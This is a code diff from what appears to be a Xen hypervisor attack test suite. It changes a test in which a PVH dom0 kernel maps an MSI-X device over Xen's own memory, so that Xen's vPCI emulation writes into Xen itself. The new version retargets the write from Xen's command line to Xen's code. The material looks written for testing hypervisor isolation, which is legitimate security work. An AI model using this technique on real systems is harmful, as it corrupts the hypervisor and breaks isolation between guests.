@@ -206,15 +206,16 @@ KERNEL_ATTACK_OWN_BOOT("K-MSIX-RO-HPET", "take the timers off Xen's list")
 
 /* ---- beside the table ---- */
 
-/* In pieces that Xen takes. */
-static void write_long(volatile char *to, const char *bytes)
+static void write_beside_table(uint64_t where, uint32_t word)
 {
-    for ( unsigned int i = 0; i < MARK_LENGTH; i += 8 )
-    {
-        uint64_t piece;
+    volatile char *page;
 
-        memcpy(&piece, bytes + i, sizeof(piece));
-        *(volatile uint64_t *)(to + i) = piece;
+    place_device(where & PAGE_MASK);
+    page = map_machine(where / PAGE_SIZE, 1);
+    if ( page )
+    {
+        store(page + where % PAGE_SIZE, 4, word);
+        unmap_machine(page, 1);
     }
 }
 
@@ -225,28 +226,17 @@ static void write_long(volatile char *to, const char *bytes)
  * writes there beside the table Xen does for it. With the device over Xen's own
  * memory, that is where Xen writes.
  */
-KERNEL_PVH_ATTACK("K-VPCI-PAGE", "have Xen write to its memory by a table's page",
+KERNEL_PVH_ATTACK("K-VPCI-PAGE", "have Xen write to its code by a table's page",
                   "a PV dom0 maps the page itself")
 {
-    const uint64_t where = xen_command_line(), place = device_place();
-    volatile char *page;
-    char before[MARK_LENGTH];
-    bool changed;
+    const uint64_t place = device_place();
+    enum outcome outcome;
 
-    if ( !where || !find_msix() || !place )
-        return cannot_try("Xen does not tell where it is, or no MSI-X");
-    memcpy(before, shown_command_line(), MARK_LENGTH);
-    place_device(where & PAGE_MASK);
-    page = map_machine(where / PAGE_SIZE, 1);
-    if ( page && can_read(page, where % PAGE_SIZE) )
-        write_long(page + where % PAGE_SIZE, COMMAND_LINE_MARK);
-    changed = command_line_has_mark();
-    if ( changed )
-        write_long(page + where % PAGE_SIZE, before);
-    unmap_machine(page, 1);
+    if ( !find_msix() || !place )
+        return cannot_try("no device with MSI-X");
+    outcome = change_version(write_beside_table);
     place_device(0);
     place_device(place);
 
-    return effect_either(changed, "Xen's command line",
-                         "changed and put back", "as it was");
+    return outcome;
 }
